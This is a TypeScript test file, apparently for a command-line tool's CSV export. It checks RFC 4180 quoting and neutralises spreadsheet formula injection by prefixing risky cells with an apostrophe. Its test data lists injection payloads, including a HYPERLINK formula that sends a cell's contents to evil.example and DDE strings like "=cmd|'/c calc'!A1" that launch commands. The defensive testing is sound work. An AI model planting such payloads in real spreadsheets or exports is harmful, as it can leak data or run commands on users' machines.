import { describe, expect, test } from 'vitest';
import { csvText } from '../../src/cli/terminal/csv.ts';

describe('comma-separated values', () => {
  test('quote every cell, and end every row (RFC 4180)', () => {
    expect(
      csvText([
        ['a', 'say "hi"'],
        ['x,y', 'two\nlines'],
      ]),
    ).toBe('"a","say ""hi"""\r\n"x,y","two\nlines"\r\n');
  });

  test.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '|calc',
    '%0A=1',
    ' =1',
    '   =1',
    '\t=1',
    '\tx',
    '\rx',
    '\n=1',
    '\r\n=1',
    '\u00a0=1',
    '\u200b=1',
    '\ufeff=1',
    '\u202e=1',
    '\u0000=1',
    '\u2028=1',
    '\u3000=1',
    '＝1',
    '＋1',
    '－1',
    '＠SUM',
    '\u2212 1',
    '﹢1',
    '﹣1',
    '﹦1',
    '﹫x',
    '=HYPERLINK("http://evil.example?x="&A1,"Click")',
    "=cmd|'/c calc'!A1",
    '-2+3+cmd|x',
  ])('the formula %j is text to a spreadsheet (T-26)', (text) => {
    const [field] = /^"((?:[^"]|"")*)"/.exec(csvText([[text]]))!.slice(1);
    expect(field).toMatch(/^'/);
    expect(field!.slice(1).replaceAll('""', '"')).toBe(text);
  });

  test.each([
    ["Invoice;=cmd|'/c calc'!A1;x", "Invoice;'=cmd|'/c calc'!A1;x"],
    ['a; =1', "a;' =1"],
    ['a;"=1', `a;'"=1`],
    ['a\t+1', "a\t'+1"],
    ['a\r\n@SUM(A1)', "a\r\n'@SUM(A1)"],
    ['=1;=2', "'=1;'=2"],
    ['a;\u200b＝1', "a;'\u200b＝1"],
    ['Hello; bye', 'Hello; bye'],
  ])('the cell that a spreadsheet with another separator finds in %j is text (T-26)', (text, written) => {
    const [field] = /^"((?:[^"]|"")*)"/.exec(csvText([[text]]))!.slice(1);
    expect(field!.replaceAll('""', '"')).toBe(written);
  });

  test.each(['Printer', '1-2', 'a=b', 'Re: +1', '5 %', "'tis", ''])('%j stays as it is', (text) => {
    expect(csvText([[text]])).toBe(`"${text}"\r\n`);
  });
});
